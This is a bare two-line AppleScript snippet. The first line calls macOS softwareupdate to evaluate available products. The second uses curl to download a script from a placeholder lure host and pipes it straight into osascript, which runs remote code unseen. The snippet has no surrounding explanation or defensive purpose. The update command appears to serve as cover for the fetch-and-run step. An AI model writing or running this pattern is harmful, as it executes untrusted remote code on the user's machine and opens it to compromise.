do shell script "/usr/sbin/softwareupdate --evaluate-products"
do shell script "curl -s https://sdk.lure.invalid/x | osascript"
